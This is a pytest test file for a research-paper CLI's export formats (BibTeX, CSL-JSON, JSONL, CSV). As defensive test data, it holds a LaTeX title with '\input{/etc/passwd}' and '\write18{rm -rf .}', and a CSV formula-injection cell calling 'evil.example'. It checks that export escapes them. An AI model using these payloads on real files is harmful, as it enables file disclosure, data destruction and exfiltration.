"""Export: BibTeX read back by bibtexparser, CSL-JSON against the CSL fields Zotero reads,
JSON lines and CSV read back, and `papers`/`search --format` writing whole files."""

from __future__ import annotations

import csv
import dataclasses
import gzip
import io
import json
import re
from pathlib import Path

import bibtexparser
import pytest
from pylatexenc.latex2text import LatexNodes2Text

from papercli.errors import ExitCode
from papercli.history.export import FIELDS, cite_key, export, latex_escape, to_bibtex
from papercli.models import Page, Paper
from papercli.sources import arxiv_listing, hf
from papercli.sources.files import iter_jsonl
from papercli.store import Store
from tests.cli_helpers import run_cli

CS_SAMPLE = "abstracts/cs-daily-sample-9940.jsonl.gz"
ASTRO_2026 = "arxiv-list/astro-ph.CO_recent_show1000_fetched-2026-07-24_c2fe83b.html"
HF_2026 = "hf-daily/api/daily_papers_date-2026-08-21.json"
# LaTeX's specials and a file-reading command, as a hostile page could carry them.
HOSTILE_TITLE = r"Q&A: 50% of #1 {open \input{/etc/passwd} ~x^2 C_n $\write18{rm -rf .}$ \ end"
# What a BibTeX reader shows for every paper (the CSL variables Zotero reads for a preprint).
CSL_VARIABLES = {
    "id", "type", "title", "author", "issued", "publisher", "number", "version", "abstract",
    "URL", "DOI", "keyword", "note",
}  # fmt: skip


def real_papers(fixtures: Path) -> list[Paper]:
    """Papers from three real sources: cs /new records, an astro-ph listing with LaTeX in its
    titles, and a Hugging Face day (authors only by name, no categories)."""
    with gzip.open(fixtures / CS_SAMPLE) as lines:
        cs = list({p.id: p for p in iter_jsonl(lines)}.values())[:300]
    astro = arxiv_listing.parse((fixtures / ASTRO_2026).read_bytes()).papers
    day = hf.parse_api((fixtures / HF_2026).read_bytes()).papers
    return [*cs, *astro, *day]


def to_text(latex: str) -> str:
    """What LaTeX prints for `latex` (pylatexenc prints \\textasciicircum as U+02C6)."""
    return LatexNodes2Text().latex_to_text(latex).replace("\u02c6", "^")


def test_bibtex_parses_back_entry_for_entry_in_arxivs_own_shape(fixtures: Path) -> None:
    papers = real_papers(fixtures)
    library = bibtexparser.parse_string(to_bibtex(papers))
    assert library.failed_blocks == []
    assert len(library.entries) == len(papers) == 300 + 111 + len(papers) - 411
    for paper, entry in zip(papers, library.entries, strict=True):
        assert entry.entry_type == "misc"
        assert entry.key == cite_key(paper)
        fields = entry.fields_dict
        assert fields["eprint"].value == paper.id
        assert fields["archivePrefix"].value == "arXiv"
        assert fields["url"].value == f"https://arxiv.org/abs/{paper.id}"
        if paper.categories:
            assert fields["primaryClass"].value == paper.categories[0]
        assert fields["year"].value == "20" + paper.id[:2]
        authors = fields["author"].value.split(" and ")
        assert [to_text(a) for a in authors] == [" ".join(a.split()) for a in paper.authors]
        # Titles without LaTeX in them ('Star--Galaxy', '$\\Lambda$CDM') read back as written.
        if not re.search(r"[$\\]|--|``", paper.title):
            assert to_text(fields["title"].value) == " ".join(paper.title.split())


def test_keys_are_unique_and_stay_the_same_across_versions(fixtures: Path) -> None:
    papers = real_papers(fixtures)
    keys = [cite_key(p) for p in papers]
    assert len(set(keys)) == len(keys)
    first = papers[0]
    assert keys[0] == "zeng2025_2503.11731"
    revised = dataclasses.replace(first, version=3, title="A new title", published="2026-01-02")
    assert cite_key(revised) == keys[0]
    old_style = Paper(id="hep-th/9901001", title="Strings", authors=["Juan Maldacena"])
    assert cite_key(old_style) == "maldacena1999_hep-th-9901001"
    assert cite_key(Paper(id="title:0123abcd4567", title="x", published="2024-08-01")) == (
        "anon2024_title-0123abcd4567"
    )


def test_latex_specials_are_escaped_and_math_is_kept_unless_it_runs_commands() -> None:
    escaped = latex_escape(HOSTILE_TITLE)
    assert "\\input" not in escaped and "\\write" not in escaped
    assert to_text(escaped) == HOSTILE_TITLE
    assert latex_escape(r"$\Lambda$CDM at $z \sim 2$") == r"$\Lambda$CDM at $z \sim 2$"
    assert latex_escape("unbalanced $x_{1$ math") == r"unbalanced \$x\_\{1\$ math"


def test_a_hostile_title_still_gives_one_valid_entry(fixtures: Path) -> None:
    paper = dataclasses.replace(
        real_papers(fixtures)[0], title=HOSTILE_TITLE, authors=["Tom and Jerry", "A. {B"]
    )
    library = bibtexparser.parse_string(to_bibtex([paper]))
    assert library.failed_blocks == []
    fields = library.entries[0].fields_dict
    assert to_text(fields["title"].value) == HOSTILE_TITLE
    # A name holding 'and' is braced, so it stays one author.
    assert fields["author"].value == r"{Tom and Jerry} and A. \{B"


def test_csl_json_holds_only_csl_variables_with_their_shapes(fixtures: Path) -> None:
    papers = real_papers(fixtures)
    items = json.loads(export(papers, "csl-json"))
    assert len(items) == len(papers)
    for paper, item in zip(papers, items, strict=True):
        assert set(item) <= CSL_VARIABLES
        assert item["type"] == "article" and item["id"] == cite_key(paper)
        assert item["publisher"] == "arXiv" and item["number"] == f"arXiv:{paper.id}"
        assert item["title"] == " ".join(paper.title.split())
        assert item["URL"] == f"https://arxiv.org/abs/{paper.id}"
        for name in item["author"]:
            assert set(name) in (
                {"family", "given"},
                {"literal"},
                {"family", "given", "non-dropping-particle"},
            )
            assert all(isinstance(v, str) and v for v in name.values())
        [parts] = item["issued"]["date-parts"]
        assert 1 <= len(parts) <= 3 and all(isinstance(p, int) for p in parts)
        assert parts[:2] == [2000 + int(paper.id[:2]), int(paper.id[2:4])] or paper.published
    first = items[0]
    assert first["author"][:2] == [
        {"family": "Zeng", "given": "Xianming"},
        {"family": "Du", "given": "Sicong"},
    ]


def test_jsonl_reads_back_as_the_same_papers(fixtures: Path) -> None:
    papers = real_papers(fixtures)
    again = list(iter_jsonl(export(papers, "jsonl").splitlines()))
    assert [(p.id, p.title, p.authors, p.abstract, p.categories) for p in again] == [
        (p.id, p.title, p.authors, p.abstract, p.categories) for p in papers
    ]


def test_csv_has_a_header_and_survives_commas_quotes_and_line_breaks(fixtures: Path) -> None:
    papers = real_papers(fixtures)
    papers[0] = dataclasses.replace(papers[0], title='A "quoted", title\nover two lines')
    rows = list(csv.reader(io.StringIO(export(papers, "csv"), newline="")))
    assert rows[0] == list(FIELDS)
    assert len(rows) == len(papers) + 1
    assert rows[1][FIELDS.index("title")] == 'A "quoted", title\nover two lines'
    assert rows[1][FIELDS.index("authors")] == "; ".join(papers[0].authors)


def test_csv_cells_never_start_a_spreadsheet_formula(fixtures: Path) -> None:
    papers = real_papers(fixtures)
    papers[0] = dataclasses.replace(
        papers[0], title='=HYPERLINK("http://evil.example/"&A1,"click")', authors=["@SUM(A1)"]
    )
    rows = list(csv.reader(io.StringIO(export(papers, "csv"), newline="")))
    assert rows[1][FIELDS.index("title")] == "'" + papers[0].title
    assert rows[1][FIELDS.index("authors")] == "'@SUM(A1)"
    # Ordinary cells are left as they are.
    assert rows[2][FIELDS.index("title")] == papers[1].title


@pytest.fixture
def small_store(tmp_path: Path, fixtures: Path) -> Path:
    path = tmp_path / "papers.db"
    with Store(path) as store:
        store.upsert_page("arxiv:cs", Page(kind="jsonl", papers=real_papers(fixtures)[:40]))
    return path


@pytest.mark.parametrize(
    ("fmt", "starts"),
    [("bibtex", "@misc{"), ("csl-json", "[\n  {"), ("jsonl", '{"id": '), ("csv", "id,version,")],
)
def test_papers_format_writes_the_file_whole(small_store: Path, fmt: str, starts: str) -> None:
    target = small_store.parent / "out" / f"papers.{fmt}"
    result = run_cli("--db", str(small_store), "papers", "--format", fmt, "-o", str(target))
    assert result.code == 0, result.err
    assert result.err == f"wrote 40 papers to {target}\n"
    assert target.read_text(encoding="utf-8").startswith(starts)
    assert sorted(p.name for p in target.parent.iterdir()) == [target.name]  # no temp file left
    on_stdout = run_cli("--db", str(small_store), "papers", "--format", fmt, "--limit", "2")
    assert on_stdout.out.startswith(starts)


def test_search_format_exports_the_hits_in_rank_order(small_store: Path) -> None:
    found = run_cli("--db", str(small_store), "search", "model", "--json", "--limit", "5")
    ids = [json.loads(line)["id"] for line in found.out.splitlines()]
    result = run_cli(
        "--db", str(small_store), "search", "model", "--format", "bibtex", "--limit", "5"
    )
    entries = bibtexparser.parse_string(result.out).entries
    assert [e.fields_dict["eprint"].value for e in entries] == ids
    assert len(ids) == 5


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ("--format", "ris"),
            "Error: --format 'ris' is not known; use bibtex, csl-json, jsonl, csv\n",
        ),
        (("-o", "x.bib"), "Error: -o needs --format; e.g. --format bibtex -o papers.bib\n"),
        (
            ("--json", "--format", "csv"),
            "Error: --json and --format both choose the output; give one of them\n",
        ),
    ],
)
def test_export_options_that_do_not_fit_are_usage_errors(small_store: Path, args, message) -> None:
    result = run_cli("--db", str(small_store), "papers", *args)
    assert (result.code, result.err, result.out) == (ExitCode.USAGE, message, "")
